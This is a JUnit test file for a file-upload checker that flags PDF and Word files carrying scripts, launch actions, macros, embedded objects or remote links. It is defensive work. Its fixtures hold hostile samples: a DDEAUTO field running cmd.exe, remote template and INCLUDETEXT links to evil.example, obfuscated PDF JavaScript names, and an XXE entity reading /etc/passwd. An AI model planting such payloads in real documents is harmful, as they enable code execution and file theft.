package org.muster.imports;

import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.HexFormat;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.function.Consumer;

import org.apache.pdfbox.cos.COSDictionary;
import org.apache.pdfbox.cos.COSName;
import org.apache.pdfbox.pdfwriter.compress.CompressParameters;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionJavaScript;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionLaunch;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

import static org.assertj.core.api.Assertions.assertThat;

/** What files that are kept for others may be. */
class FileKindTest {

	private static final String RELATION = """
			<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" \
			Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/%s" Target="http://evil.example/x" \
			TargetMode="External"/></Relationships>""";

	@TempDir
	private Path folder;

	private Path file(byte[] content) throws Exception {
		return Files.write(this.folder.resolve("file"), content);
	}

	@ParameterizedTest
	@CsvSource({ "GIF, offer.html, offer.gif", "PDF, CV.PDF, CV.PDF", "JPEG, me.jpeg, me.jpeg", "PDF, run.exe, run.pdf",
			"PNG, ?, ?.png", "WORD, letter, letter.docx", "PDF, version 1.2, version 1.2.pdf", "PDF, .pdf, ?.pdf",
			"PNG, a.html.png, a.html.png" })
	void aNameEndsAsItsContentIs(FileKind kind, String name, String named) {
		assertThat(kind.named(name, 200)).isEqualTo(named);
		assertThat(kind.named("x".repeat(300), 200)).hasSize(200);
	}

	private static byte[] pdf(boolean packed, boolean script, boolean launch) throws Exception {
		try (PDDocument document = new PDDocument(); ByteArrayOutputStream bytes = new ByteArrayOutputStream()) {
			document.addPage(new PDPage());
			if (script) {
				document.getDocumentCatalog().setOpenAction(new PDActionJavaScript("app.alert(1)"));
			}
			if (launch) {
				document.getDocumentCatalog().setOpenAction(new PDActionLaunch());
			}
			document.save(bytes, packed ? CompressParameters.DEFAULT_COMPRESSION : CompressParameters.NO_COMPRESSION);
			return bytes.toByteArray();
		}
	}

	@Test
	void aPdfWithAScriptIsFoundAlsoInsideOfPackedObjectsAndInCodes() throws Exception {
		for (boolean packed : new boolean[] { true, false }) {
			assertThat(FileKind.PDF.isActive(file(pdf(packed, false, false)))).isFalse();
			assertThat(FileKind.PDF.isActive(file(pdf(packed, true, false)))).isTrue();
			assertThat(FileKind.PDF.isActive(file(pdf(packed, false, true)))).isTrue();
		}
		String plain = new String(pdf(false, true, false), StandardCharsets.ISO_8859_1);
		assertThat(plain).contains("/JavaScript");
		byte[] coded = plain.replace("/JavaScript", "/J#61v#61Script").getBytes(StandardCharsets.ISO_8859_1);
		assertThat(FileKind.PDF.isActive(file(coded))).isTrue();
	}

	@Test
	void aPdfThatCarriesFilesOrRunsAScriptWithoutSayingSoIsFound() throws Exception {
		for (boolean packed : new boolean[] { true, false }) {
			assertThat(FileKind.PDF.isActive(file(changed(packed, (catalog) -> {
				COSDictionary files = new COSDictionary();
				files.setItem(COSName.getPDFName("EmbeddedFiles"), new COSDictionary());
				catalog.setItem(COSName.NAMES, files);
			})))).isTrue();
			assertThat(FileKind.PDF.isActive(file(changed(packed, (catalog) -> {
				COSDictionary action = new COSDictionary();
				action.setName(COSName.S, "Rendition");
				action.setString(COSName.JS, "app.alert(1)");
				catalog.setItem(COSName.OPEN_ACTION, action);
			})))).isTrue();
			assertThat(FileKind.PDF.isActive(file(changed(packed, (catalog) -> {
				COSDictionary file = new COSDictionary();
				file.setItem(COSName.EF, new COSDictionary());
				catalog.setItem(COSName.getPDFName("Extra"), file);
			})))).isTrue();
			assertThat(FileKind.PDF.isActive(file(changed(packed, (catalog) -> catalog.setString(COSName.LANG, "en")))))
				.isFalse();
		}
	}

	private static byte[] changed(boolean packed, Consumer<COSDictionary> change) throws Exception {
		try (PDDocument document = new PDDocument(); ByteArrayOutputStream bytes = new ByteArrayOutputStream()) {
			document.addPage(new PDPage());
			change.accept(document.getDocumentCatalog().getCOSObject());
			document.save(bytes, packed ? CompressParameters.DEFAULT_COMPRESSION : CompressParameters.NO_COMPRESSION);
			return bytes.toByteArray();
		}
	}

	@Test
	void packedObjectsThatAreTurnedOverCannotBeLookedInto() throws Exception {
		byte[] packed = pdf(true, false, false);
		String turned = new String(packed, StandardCharsets.ISO_8859_1).replaceFirst("/ObjStm",
				"/ObjStm /DecodeParms << /Predictor 12 >>");
		assertThat(FileKind.PDF.isActive(file(turned.getBytes(StandardCharsets.ISO_8859_1)))).isTrue();
		assertThat(FileKind.PDF.isActive(file(utf8("%PDF-1.7 and no more")))).isTrue();
	}

	private static byte[] word(String name, byte[] part) {
		Map<String, byte[]> parts = new LinkedHashMap<>();
		parts.put("[Content_Types].xml", "<Types/>".getBytes(StandardCharsets.UTF_8));
		parts.put("word/document.xml", "<document/>".getBytes(StandardCharsets.UTF_8));
		parts.put(name, part);
		return Documents.zip(parts);
	}

	private static byte[] utf8(String text) {
		return text.getBytes(StandardCharsets.UTF_8);
	}

	@Test
	void aDocumentWithMacrosOrATemplateFromElsewhereIsFound() throws Exception {
		String types = "<Types><Override PartName=\"/word/other.bin\" ContentType=\"application/vnd.ms-office.vbaProject\"/></Types>";
		Path macros = file(word("[Content_Types].xml", utf8(types)));
		assertThat(FileKind.of(macros)).contains(FileKind.WORD);
		assertThat(FileKind.WORD.isActive(macros)).isTrue();
		assertThat(FileKind.WORD.isActive(file(word("word/vbaProject.bin", new byte[3])))).isTrue();
		String link = RELATION.formatted("attachedTemplate");
		assertThat(FileKind.WORD.isActive(file(word("word/_rels/settings.xml.rels", utf8(link))))).isTrue();
		byte[] wide = ("\ufeff" + link).getBytes(StandardCharsets.UTF_16LE);
		assertThat(FileKind.WORD.isActive(file(word("word/_rels/settings.xml.rels", wide)))).isTrue();
		String harmless = RELATION.formatted("hyperlink");
		assertThat(FileKind.WORD.isActive(file(word("word/_rels/document.xml.rels", utf8(harmless))))).isFalse();
		assertThat(FileKind.WORD.isActive(file(Documents.word("A letter")))).isFalse();
	}

	@ParameterizedTest
	@ValueSource(strings = { "<w:instrText> DDEAUTO c:\\\\Windows\\\\System32\\\\cmd.exe \"/k calc\" </w:instrText>",
			"<w:fldSimple w:instr=' dde Excel x y'/>",
			"<w:instrText>DD</w:instrText></w:r><w:r><w:instrText>EAUTO c:</w:instrText>",
			"<w:instrText>D</w:instrText><w:fldChar/><w:instrText>DEAUTO x</w:instrText><w:fldChar/><w:instrText>QUOTE 68 68</w:instrText>",
			"<w:instrText>LINK Excel.Sheet.12 \"\\\\evil\\x\"</w:instrText>",
			"<w:instrText> INCLUDETEXT http://evil.example/x</w:instrText>" })
	void aFieldThatStartsSomethingIsFound(String field) throws Exception {
		String body = "<w:document xmlns:w='urn:w'><w:p><w:r>" + field + "</w:r></w:p></w:document>";
		assertThat(FileKind.WORD.isActive(file(word("word/document.xml", utf8(body))))).isTrue();
		assertThat(FileKind.WORD.isActive(file(word("word/anything", utf8(body))))).isTrue();
	}

	@ParameterizedTest
	@ValueSource(strings = { "<w:instrText> PAGE </w:instrText>", "<w:t>DDEAUTO is a field</w:t>",
			"<w:instrText> HYPERLINK \"https://test.example/dde\" </w:instrText>", "<w:fldSimple w:instr=' DATE '/>",
			"<w:instrText>QUOTE \"a\"</w:instrText>" })
	void aFieldThatShowsSomethingIsNone(String field) throws Exception {
		String body = "<w:document xmlns:w='urn:w'><w:p><w:r>" + field + "</w:r></w:p></w:document>";
		assertThat(FileKind.WORD.isActive(file(word("word/document.xml", utf8(body))))).isFalse();
	}

	@Test
	void anObjectOrAProjectOfMacrosIsFoundWhateverItIsCalled() throws Exception {
		byte[] compound = HexFormat.of().parseHex("d0cf11e0a1b11ae10000");
		assertThat(FileKind.WORD.isActive(file(word("word/media/image1.png", compound)))).isTrue();
		for (String part : List.of("oleObject", "vbaProject", "control", "aFChunk")) {
			String inside = RELATION.formatted(part)
				.replace("TargetMode=\"External\"", "")
				.replace("http://evil.example/", "");
			assertThat(FileKind.WORD.isActive(file(word("word/_rels/document.xml.rels", utf8(inside))))).as(part)
				.isTrue();
		}
		byte[] table = word("xl/workbook.xml", utf8("<workbook/>"));
		assertThat(FileKind.WORD.isActive(file(word("word/embeddings/chart.xlsx", table)))).isFalse();
		byte[] macros = word("xl/other.bin", compound);
		assertThat(FileKind.WORD.isActive(file(word("word/embeddings/chart.xlsx", macros)))).isTrue();
	}

	@Test
	void aDeclarationIsFoundInWideLettersAndFarBehindTheBeginning() throws Exception {
		String declared = "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>";
		assertThat(FileKind.of(file(word("word/a.xml", utf8("<x/>"))))).contains(FileKind.WORD);
		assertThat(FileKind.of(file(word("word/a.xml", declared.getBytes(StandardCharsets.UTF_16))))).isEmpty();
		assertThat(FileKind.of(file(word("word/a.xml", declared.getBytes(StandardCharsets.UTF_16LE))))).isEmpty();
		for (int blanks : new int[] { 20_000, 16 * 1024 - 4 }) {
			assertThat(FileKind.of(file(word("word/a.xml", utf8(" ".repeat(blanks) + declared))))).isEmpty();
		}
	}

}
